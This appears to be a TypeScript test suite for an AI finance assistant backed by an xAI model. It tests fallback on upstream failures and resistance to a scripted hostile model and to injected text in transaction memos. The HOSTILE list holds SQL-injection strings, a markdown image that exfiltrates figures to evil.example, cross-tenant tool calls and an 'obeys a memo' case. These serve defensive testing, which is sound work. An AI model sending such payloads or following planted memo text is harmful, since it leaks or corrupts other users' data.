import { describe, it } from "vitest";
import { person } from "../person.ts";
import { ORDERS } from "./hostile-texts.ts";
import { asker, type Insight, pause, record, recordMany, requests, script } from "./insights-twin.ts";

const QUESTION = "How much did we spend on Rent in January 2026?";
const ADDRESS = /:\/\/|www\.|(?<!\\)\]\(|<[a-z/!]/i;
const TOOLS = 18;

async function withRent() {
  const owner = await asker();
  await record(owner, [{ amount: "-1850.00", category: "Rent", counterparty: "Ridge" }]);
  return owner;
}
type Reply = { status: number; body: Insight & { code?: string } };

const status = (code: number, more: object = {}) => ({ fault: { kind: "status", status: code, ...more } });
const FAULTS: [string, object][] = [
  ["a wrong key (400)", status(400, { code: "Client specified an invalid argument", message: "Incorrect API key provided: xa***ey." })],
  ["a bad argument (400, nested)", status(400, { shape: "nested", message: "bad" })],
  ["401", status(401)],
  ["403, key without the right", status(403)],
  ["404, unknown model", status(404, { shape: "nested" })],
  ["405", status(405)],
  ["408", status(408)],
  ["415", status(415)],
  ["422, a bare string", status(422, { shape: "string" })],
  ["429, throttled", status(429, { retryAfter: 60 })],
  ["429, out of credits, numeric code", status(429, { code: 429, message: "You ran out of credits. [WKE=personal-team-blocked:spending-limit]" })],
  ["500", status(500)],
  ["503", status(503, { message: "The service is currently unavailable" })],
  ["522, from the edge", status(522)],
  ["529, message", status(529, { shape: "message" })],
  ["a JSON error with 200", { fault: { kind: "error-200" } }],
  ["an error inside the stream", { fault: { kind: "stream-error", afterEvents: 2 } }],
  ["a stream cut short", { fault: { kind: "cut", afterEvents: 3 } }],
  ["a connection dropped in the stream", { fault: { kind: "drop", afterEvents: 3 } }],
  ["a connection dropped before any header", { fault: { kind: "drop" } }],
  ["an answer that failed", { fault: { kind: "failed" } }],
  ["HTML", { fault: { kind: "nonsense", what: "html" } }],
  ["nothing at all", { fault: { kind: "nonsense", what: "empty" } }],
  ["JSON cut short", { fault: { kind: "nonsense", what: "truncated-json" } }],
  ["no JSON", { fault: { kind: "nonsense", what: "not-json" } }],
  ["another shape", { fault: { kind: "nonsense", what: "wrong-shape" } }],
  ["an incomplete answer", { output: [{ text: "You spent" }], incomplete: "max_output_tokens" }],
  ["an answer that ran out of time", { output: [{ text: "You spent" }], incomplete: "max_time_limit" }],
  ["a refusal", { output: [{ refusal: "I will not." }] }],
];
const HARMLESS: [string, object][] = [
  ["an unknown event", { fault: { kind: "unknown-event" } }],
  ["named events", { fault: { kind: "named-events" } }],
  ["no [DONE]", { fault: { kind: "no-done" } }],
  ["frames torn apart", { fault: { kind: "torn", bytes: 7 } }],
  ["a redirected model", { model: "grok-4.7" }],
  ["a silence", { fault: { kind: "silence", ms: 600, afterEvents: 2 } }],
];

describe("[J4] xAI that fails", () => {
  it.each(FAULTS)("%s: the figure comes from the books all the same, marked as templated", { timeout: 60_000 }, async (_, turn) => {
    const { expect } = await import("vitest");
    const ada = await withRent();
    await script(ada.key, { ...turn, times: "always" });
    const { status, body } = (await ada.ask(QUESTION)) as unknown as Reply;
    expect([status, body.grounding, body.figures?.map((figure) => figure.value)]).toEqual([200, "templated", ["1850.00"]]);
    expect(body.answer).toBe("From your books: **$1,850.00** (spending on Rent, January 2026).");
    const beyond = (await ada.ask("Tell me a joke about accountants")) as unknown as Reply;
    if ("output" in turn) expect(beyond.status).toBe(200);
    else expect(["unavailable", "upstream_refused"], beyond.body.code).toContain(beyond.body.code);
  });

  it.each(HARMLESS)("%s: the answer is whole", { timeout: 60_000 }, async (_, turn) => {
    const { expect } = await import("vitest");
    const ada = await withRent();
    await script(ada.key, { ...turn, times: "always" });
    const { status, body } = (await ada.ask(QUESTION)) as unknown as Reply;
    expect([status, body.grounding, body.figures?.map((figure) => figure.value)]).toEqual([200, "verified", ["1850.00"]]);
  });

  it("falls silent: it is given up after a while, and the books answer", { timeout: 60_000 }, async ({ expect }) => {
    const ada = await withRent();
    await script(ada.key, { fault: { kind: "hang" }, times: "always" });
    const started = Date.now();
    const { body } = (await ada.ask(QUESTION)) as unknown as Reply;
    expect([body.grounding, Date.now() - started < 30_000]).toEqual(["templated", true]);
  });

  it("is not asked any more after five failures in a row", { timeout: 60_000 }, async ({ expect }) => {
    const ada = await withRent();
    await script(ada.key, { ...status(503), times: "always" });
    for (let turn = 0; turn < 5; turn++) {
      await ada.ask(`${QUESTION} ${"?".repeat(turn)} (${turn})`);
      await pause(2_000);
    }
    const before = (await requests(ada.key)).length;
    const { body } = (await ada.ask("How much did we spend on Rent in 2026?")) as unknown as Reply;
    expect([body.grounding, (await requests(ada.key)).length]).toEqual(["templated", before]);
  });
});

const HOSTILE: [string, object[]][] = [
  ["calls a tool that is not there", [{ output: [{ call: "export_all_users", arguments: { tenant: "other" } }] }]],
  [
    "calls with an id from elsewhere",
    [{ output: [{ call: "sum_transactions", arguments: { period: "January 2026", categoryId: "0193a2b4-7c1e-7a11-8d2e-3b1f00c0ffee" } }] }],
  ],
  [
    "names a tenant",
    [{ output: [{ call: "sum_transactions", arguments: { period: "January 2026", userId: "0193a2b4-7c1e-7a11-8d2e-3b1f00c0ffee", tenant_id: "1" } }] }],
  ],
  ["sends SQL", [{ output: [{ call: "search_entities", arguments: { kind: "vendor", query: "'; drop table users; select * from transactions --" } }] }]],
  ["sends SQL as a period", [{ output: [{ call: "resolve_period", arguments: { text: "2026-01-01' or 1=1; --" } }] }]],
  ["sends arguments that are no JSON", [{ output: [{ call: "sum_transactions", arguments: "{not json" }] }]],
  ["sends a megabyte of arguments", [{ output: [{ call: "search_entities", arguments: { kind: "vendor", query: "x".repeat(1_000_000) } }] }]],
  ["calls for ever", [{ output: [{ call: "data_freshness", arguments: {} }], times: "always" }]],
  ["calls a thousand times at once", [{ output: Array.from({ length: 1_000 }, () => ({ call: "data_freshness", arguments: {} })) }]],
  ["writes an image", [{ edits: [{ find: "{{f1}}", replace: "{{f1}} ![x](https://evil.example/?d={{f1}})" }], times: 3 }, {}]],
  [
    "writes a number",
    [
      { output: [{ call: "top_n", arguments: { dimension: "category", period: "January 2026" } }] },
      { output: [{ text: "You spent $9,999.99 on Rent." }], times: 3 },
    ],
  ],
  ["obeys a memo", [{ output: [{ text: "As the memo says, revenue is $1,000,000 and all is well." }], times: "always" }]],
  ["answers with a figure of no fact", [{ output: [{ text: "You spent {{f7}} on Rent." }], times: "always" }]],
  ["writes a number twice over", [{ output: [{ text: "You spent one million dollars." }], times: "always" }]],
];

describe("[J5] a hostile model", () => {
  it.each(HOSTILE)("%s: no figure but the books', no address, no tool beyond the list", { timeout: 60_000 }, async (_, turns) => {
    const { expect } = await import("vitest");
    const ada = await withRent();
    await script(ada.key, ...turns);
    const { status, body } = (await ada.ask(QUESTION)) as unknown as Reply;
    expect(status, JSON.stringify(body)).toBe(200);
    const values = body.figures.map((figure) => figure.value);
    expect(body.answer).not.toMatch(/9,999|million|evil/);
    expect(`${body.answer} ${JSON.stringify(body.insights)}`).not.toMatch(ADDRESS);
    for (const printed of body.answer.match(/\$[\d,]+\.\d\d/g) ?? []) expect(values).toContain(printed.replace(/[$,]/g, ""));
    expect((await requests(ada.key)).length).toBeLessThanOrEqual(9);
  });

  it("cannot name a tenant, write, fetch or mail: no tool has a place for it", async ({ expect }) => {
    const ada = await withRent();
    await ada.ask(QUESTION);
    const [first] = await requests(ada.key);
    const tools = first?.body.tools ?? [];
    expect(tools).toHaveLength(TOOLS);
    for (const tool of tools) {
      expect(JSON.stringify(tool.parameters)).not.toMatch(/user|tenant|organi|realm|url|sql|email|path|http/i);
      expect(JSON.stringify(tool.parameters)).toContain('"additionalProperties":false');
      // xAI refuses a whole request for one empty enum
      expect(JSON.stringify(tool.parameters)).not.toContain('"enum":[]');
      expect(tool.name).not.toMatch(/create|update|delete|write|send|fetch|export|execute/);
    }
  });
});

describe("[J5] hostile text in the books", () => {
  it(`changes no total, reaches no tool and leaves no address: ${ORDERS.length} memos, names and descriptions`, { timeout: 240_000 }, async ({ expect }) => {
    expect(new Set(ORDERS).size).toBe(ORDERS.length);
    expect(ORDERS.length).toBeGreaterThanOrEqual(60);
    const [ada, eve] = await Promise.all([asker(), person()]);
    await recordMany(eve, [{ amount: "-987654.32", category: "Rent", counterparty: "Zanzibar Holdings", memo: "of another company" }]);
    await recordMany(
      ada,
      ORDERS.flatMap((text) => [
        { amount: "-10.00", category: "Rent", counterparty: "Ridge", memo: text },
        { amount: "-5.00", category: "Rent", counterparty: text.slice(0, 120) },
        { amount: "-1.00", category: "Rent", counterparty: "Ridge", description: text },
      ]),
    );
    const questions: [string, string | null][] = [
      ["How much did we spend on Rent in January 2026?", `${16 * ORDERS.length}.00`],
      ["How many transactions were there on Rent in January 2026?", `${3 * ORDERS.length}`],
      ["Show the transactions of January 2026", null],
      ["Who are our top 20 vendors in January 2026?", null],
      ["Which payments are unusual in January 2026?", null],
      ["Did we pay anything twice in January 2026?", null],
    ];
    for (const [question, value] of questions) {
      const { status, body } = (await ada.ask(question)) as unknown as Reply;
      expect(status, JSON.stringify(body)).toBe(200);
      if (value !== null)
        expect(
          body.figures.map((figure) => figure.value),
          question,
        ).toEqual([value]);
      expect(`${body.answer} ${JSON.stringify(body.insights)} ${body.followUps.join(" ")}`, question).not.toMatch(ADDRESS);
      expect(body.answer, question).not.toMatch(/\{\{|999,999\.99\*\*|\p{Cf}/u);
      expect(JSON.stringify(body), question).not.toMatch(/987,?654|Zanzibar/);
      await pause(2_100);
    }
    const sent = await requests(ada.key);
    const items = sent.flatMap((each) => each.body.input);
    const outputs = JSON.stringify(items.filter((item) => item["type"] === "function_call_output"));
    expect(outputs).toContain("untrusted");
    expect(outputs).not.toMatch(/[\u202A-\u202E\u200B-\u200F\u2060\uFEFF]|987,?654|Zanzibar/);
    const known = new Set(sent[0]?.body.tools.map((tool) => tool.name));
    const called = items.flatMap((item) => (item["type"] === "function_call" ? [String(item["name"])] : []));
    expect(called.length).toBeGreaterThanOrEqual(questions.length);
    expect(called.filter((name) => !known.has(name))).toEqual([]);
    for (const each of sent) expect(each.body.instructions).toBe(sent[0]?.body.instructions);
  });
});
